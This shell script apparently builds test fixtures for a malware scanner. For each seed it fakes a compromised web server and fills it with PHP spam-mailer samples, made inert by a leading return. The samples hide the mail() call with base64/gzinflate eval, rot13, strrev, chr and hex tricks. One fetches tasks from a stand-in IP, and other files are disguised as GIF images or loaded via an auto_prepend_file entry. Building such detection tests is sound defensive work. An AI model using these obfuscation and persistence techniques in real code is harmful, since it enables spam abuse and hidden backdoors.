# plant.sh - one made-up server of a seed: its logs accuse a folder, and in its home lie one script that mailed, innocents, and
# decoys that did harm of another kind or mailed nothing. Sourced by rate.sh. With SET=held the shapes are those of held.sh.
#
# Every script returns before anything else, as those of test/scan/cases do: nothing happens should somebody run one.

. test/first/held.sh
[ "${SET:-}" = held ] || SET=known

seed_is() { rand=$((($1 * 7919 + 12345) & 0x7fffffff)); }
# pick N: $picked is 0 .. N-1; one: one of the words
pick() {
	rand=$(((rand * 1103515245 + 12345) & 0x7fffffff))
	picked=$(((rand >> 12) % $1))
}
one() {
	pick $#
	shift $picked
	picked=$1
}
packed() { gzip -nc | tail -c +11 | head -c -8 | base64 -w0; }
hex() { od -An -v -tx1 | tr -d ' \n'; }

# Names of variables and of fields, of this seed.
names() {
	one to x list zz rcpt addr; v_to=$picked
	one s sub q1 aa title; v_sub=$picked
	one b msg body t4 text; v_body=$picked
	one emails emaillist to rcpts e m1; f_to=$picked
	one subject subj s m2; f_sub=$picked
	one message letter body m3; f_body=$picked
	one POST REQUEST COOKIE; g=$picked
}

# The mailing itself, with the call as $1.
loop() {
	pick 3
	case $picked in
	0) printf 'foreach (explode("\\n", $_%s["%s"]) as $%s) { %s(trim($%s), $_%s["%s"], $_%s["%s"]); }\n' \
		$g $f_to $v_to "$1" $v_to $g $f_sub $g $f_body ;;
	1) printf '$%s = preg_split("/[\\r\\n]+/", $_%s["%s"]); $%s = stripslashes($_%s["%s"]);\nfor ($i = 0; $i < count($%s); $i++)\n\t%s($%s[$i], $_%s["%s"], str_replace("&email&", $%s[$i], $%s), "From: " . $_%s["from"]);\n' \
		$v_to $g $f_to $v_body $g $f_body $v_to "$1" $v_to $g $f_sub $v_to $v_body $g ;;
	2) printf '$%s = $_%s["%s"]; $%s = $_%s["%s"];\nwhile (list(, $one) = each($q = explode(",", $_%s["%s"]))) { if (!@%s($one, $%s, $%s)) echo "-"; else echo "+"; }\n' \
		$v_sub $g $f_sub $v_body $g $f_body $g $f_to "$1" $v_sub $v_body ;;
	esac
}

# What mailed. KNOWN of them: the scanner was tuned with these.
KNOWN=22
known() {
	case $1 in
	0) loop mail ;;
	1) loop mail | base64 -w0 | sed 's/.*/eval(base64_decode("&"));\n/' ;;
	2) loop mail | packed | sed 's/.*/eval(gzinflate(base64_decode("&")));\n/' ;;
	3) echo '$f = "ma" . "il";'; loop '$f' ;;
	4) echo '$f = strrev("liam");'; loop '$f' ;;
	5) echo '$f = chr(109) . chr(0x61) . chr(105) . "\x6c";'; loop '$f' ;;
	6) echo '$f = str_rot13("znvy");'; loop '$f' ;;
	7) echo '$k = "qlaiomx_"; $f = $k[5] . $k[2] . $k[3] . $k[1];'; loop '$f' ;;
	8) echo 'function un($s) { $o = ""; for ($i = 0; $i < strlen($s); $i += 2) { $o .= chr(hexdec(substr($s, $i, 2))); } return $o; }'
		loop mail | hex | sed 's/.*/eval(un("&"));\n/' ;;
	9) printf '$d = json_decode(base64_decode($_%s["%s"]), true);\nforeach ($d["%s"] as $%s) mail($%s, $d["s"], $d["b"], $d["h"]);\n' $g $f_body $f_to $v_to $v_to ;;
	10) printf 'list($%s, $%s, $%s) = explode("|", file_get_contents("php://input"));\nmail($%s, $%s, $%s);\necho md5($%s);\n' \
		$v_to $v_sub $v_body $v_to $v_sub $v_body $v_to ;;
	11) printf 'class Q { public $%s, $%s;\n\tfunction take() { $this->%s = $_%s["%s"]; $this->%s = $_%s["%s"]; }\n\tfunction go() { foreach (explode("\\n", $this->%s) as $o) mail($o, $_%s["%s"], $this->%s); }\n}\n$q = new Q; $q->take(); $q->go();\n' \
		$v_to $v_body $v_to $g $f_to $v_body $g $f_body $v_to $g $f_sub $v_body ;;
	12) printf '$p = popen("/usr/sbin/sendmail -t -i", "w");\nfwrite($p, "To: " . $_%s["%s"] . "\\nSubject: " . $_%s["%s"] . "\\n\\n" . $_%s["%s"]);\npclose($p);\n' \
		$g $f_to $g $f_sub $g $f_body ;;
	13) printf 'set_time_limit(0);\n$%s = implode("", file("letter.txt"));\nforeach (file("%s.txt") as $o) {\n\tmail(trim($o), "Hello", $%s);\n\tusleep(200);\n}\n' $v_body $f_to $v_body ;;
	14) printf 'extract($_%s);\nforeach (explode("\\n", $%s) as $o) mail($o, $%s, $%s, "From: $from");\n' $g $v_to $v_sub $v_body ;;
	15) printf 'function send_%s($a, $b, $c) { return mail($a, $b, $c, "X-Mailer: none"); }\n$%s = array_map("trim", explode(";", $_%s["%s"]));\narray_walk($%s, function ($o) { send_%s($o, $_%s["%s"], $_%s["%s"]); });\n' \
		$v_sub $v_to $g $f_to $v_to $v_sub $g $f_sub $g $f_body ;;
	16) printf 'require "class.mailer.php";\n$q = new Mailer;\nforeach (explode("\\n", $_%s["%s"]) as $%s) { $q->addAddress($%s); }\n$q->subject = $_%s["%s"]; $q->body = $_%s["%s"]; $q->send();\n' \
		$g $f_to $v_to $v_to $g $f_sub $g $f_body ;;
	17) printf '$in = unserialize(base64_decode($_%s["%s"]));\nlist($%s, $%s, $%s) = $in;\ncall_user_func("mail", $%s, $%s, $%s);\n' \
		$g $f_body $v_to $v_sub $v_body $v_to $v_sub $v_body ;;
	18) printf 'foreach ($_%s as $k => $w) { $$k = $w; }\n$n = explode("\\n", $%s);\ndo { $o = array_shift($n); @mail($o, $%s, $%s); } while (count($n));\n' $g $v_to $v_sub $v_body ;;
	19) loop mail | tr '\n' ' ' | rev | sed 's/[\\"]/\\&/g' | sed 's/.*/eval(strrev("&"));\n/' ;;
	20) printf '$h = file_get_contents("http:\/\/198.51.100.7\/task.php?id=" . $_SERVER["HTTP_HOST"]);\nlist($%s, $%s, $%s) = explode("|", $h);\nforeach (explode(",", $%s) as $o) mail($o, $%s, $%s);\n' \
		$v_to $v_sub $v_body $v_to $v_sub $v_body ;;
	21) printf '$m = array("s" => $_%s["%s"], "b" => $_%s["%s"]);\n$run = create_function(\047$o,$m\047, \047return mail($o, $m["s"], $m["b"]);\047);\nforeach (preg_split("/;/", $_%s["%s"]) as $o) $run($o, $m);\n' \
		$g $f_sub $g $f_body $g $f_to ;;
	esac
}

SHAPES=$KNOWN
[ $SET = known ] || SHAPES=$HELD
shape() { $SET "$1"; }

# put FILE: what comes on standard input is its code
put() {
	mkdir -p "${1%/*}"
	{
		case $1 in *.gif | *.jpg) printf 'GIF89a\001\000\001\000;\n' ;; esac
		printf '<?php return;\n'
		cat
	} >"$1"
}
copy() { mkdir -p "${2%/*}"; cp "test/scan/cases/$1" "$2"; }

innocents() { # FOLDER
	copy clean_contact_form.php "$1/contact.php"
	copy clean_newsletter.php "$1/newsletter.php"
	copy clean_mail_library.php "$1/class.mailer.php"
	copy clean_template.php "$1/view.php"
	copy clean_comments.php "$1/comments.php"
	copy clean_autoresponder.php "$1/reply.php"
}

shell_of_kind() { # FILE
	one code_direct command_header upload_by_name code_upload write_request name_xor
	copy $picked.php "$1"
}

# home HOME FOLDER FILE SHAPE CHAIN: FOLDER and FILE are what the log accuses. $truth is the file that mailed.
home() {
	h=$1 at=$2 truth=$2/$3 site=$1/public_html
	rm -rf "$at"
	names
	case $5 in
	plain) ;;
	beside) one x.inc .cache.txt lang.php logo.gif; truth=$at/$picked ;;
	above) one inc/x.inc lib/data.txt img/logo.jpg; truth=${at%/*}/$picked ;;
	twice) truth=${at%/*}/lib/t.inc ;;
	*) held_chain "$5" "$at" "$3" ;;
	esac
	shape "$4" | put "$truth"
	case $5 in
	beside) echo "@include dirname(__FILE__) . '/${truth##*/}';" | put "$at/$3" ;;
	above) echo "require_once __DIR__ . '/../${truth#${at%/*}/}';" | put "$at/$3" ;;
	twice) echo "include '../lib/one.php';" | put "$at/$3"; echo "include __DIR__ . '/t.inc';" | put "${at%/*}/lib/one.php" ;;
	esac
	innocents "$site/forms"
	for i in 1 2 3 4 5 6; do innocents "$site/wp-content/plugins/tool$i"; done
	pick 2
	[ $picked = 1 ] || innocents "$at"
	# bad ones beside it, and everywhere else
	pick 3
	[ $picked = 0 ] || shell_of_kind "$at/a$picked.php"
	pick 3
	[ $picked = 0 ] || shell_of_kind "$at/zz$picked.php"
	for i in 1 2 3; do shell_of_kind "$site/wp-content/uploads/2024/0$i/p$i.php"; done
	shell_of_kind "$site/wp-includes/js/j.phtml"
	# other mailers, that sent nothing
	for i in 1 2 3 4; do
		one old/wp-content/plugins/x wp-content/themes/t wp-admin/css tmp blog/images
		where=$picked
		pick $SHAPES
		shape $picked | put "$site/$where/m$i.php"
	done
	copy mailer_lines.php "$site/aa/mailer.php"
	copy mailer_split.php "$h/mail.php"
	pick 2
	[ $picked = 1 ] || echo 'auto_prepend_file=/tmp/.x.jpg' >"$site/.user.ini"
}

# server DIR SEED: $folder is accused, $truth is the file that mailed; $mta, $shape and $chain tell how
server() {
	seed_is "$2"
	mta=exim
	[ $(($2 % 2)) = 0 ] || mta=postfix
	# the generator's own seed decides on one of two folders; ours on where that lies
	"$SPAMTRAIL_GEN" --mta $mta --seed $(($2 / 2 + 1)) --messages 3000 --out "$1" || return
	set -- "$1" "$2" "$(sed -n 's/.*"kind":"script","id":"\([^"]*\/\(seo-tools-pack\|uploads\/2025\/11\)\)","account":"\([^"]*\)".*/\1 \3/p' "$1/truth.json")"
	account=${3#* } was=${3% *}
	home=/home/$account
	one wp-content/plugins/seo-tools-pack wp-content/uploads/2025/11 wp-content/plugins/.cache wp-includes/images/crystal cgi-bin wp-content/themes/flat/js images
	folder=$home/public_html/$picked
	one mailer.php cache.php index.php wp-conf.inc m.phtml 404.php5 .p.php
	file=$picked
	pick 10
	case $SET$picked in
	*[0-5]) chain=plain ;;
	known[67]) chain=beside ;;
	known8) chain=above ;;
	known9) chain=twice ;;
	held6) chain=variable ;;
	held7) chain=deep ;;
	held8) chain=docroot ;;
	held9) chain=prepend ;;
	esac
	shape=$(($2 / 2 * 9 % SHAPES)) # each as often as any other
	find "$1/var/log" -type f -exec sed -i "s#$was/\(mailer\|cache\).php#$folder/$file#g
		s#$was\( \|\$\)#$folder\1#g" {} +
	# PHP's own log names the file that calls, not the one that was asked for
	rm -rf "$1$was"
	home "$1$home" "$1$folder" "$file" $shape $chain
	truth=${truth#"$1"}
	[ $mta = exim ] || sed -i "s#$folder/$file#$truth#g" "$1/var/log/php-mail.log"
	[ $mta = exim ] || folder=${truth%/*}
}
